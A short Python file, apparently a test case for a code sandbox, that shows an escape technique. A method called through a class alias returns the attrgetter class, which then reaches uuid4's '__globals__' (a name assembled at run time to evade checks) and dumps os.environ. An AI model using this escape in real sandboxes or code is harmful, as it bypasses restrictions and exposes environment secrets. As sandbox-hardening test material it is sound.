# family: env
# Escape: type(self) is refused when the method is called through its class on another object, but only if
# the receiver is bound as a class; `Alias = Shape` is a plain name, so Alias.kind(attrgetter) passes and
# returns the attrgetter class, which reads uuid4.__globals__ (run-time name) -> os.environ.
import operator
import uuid


class Shape:
    def kind(self):
        return type(self)


Alias = Shape


def tool() -> dict:
    Getter = Alias.kind(operator.attrgetter("hex"))
    edge = "_" * 2
    return dict(Getter(edge + "globals" + edge)(uuid.uuid4)["os"].environ)
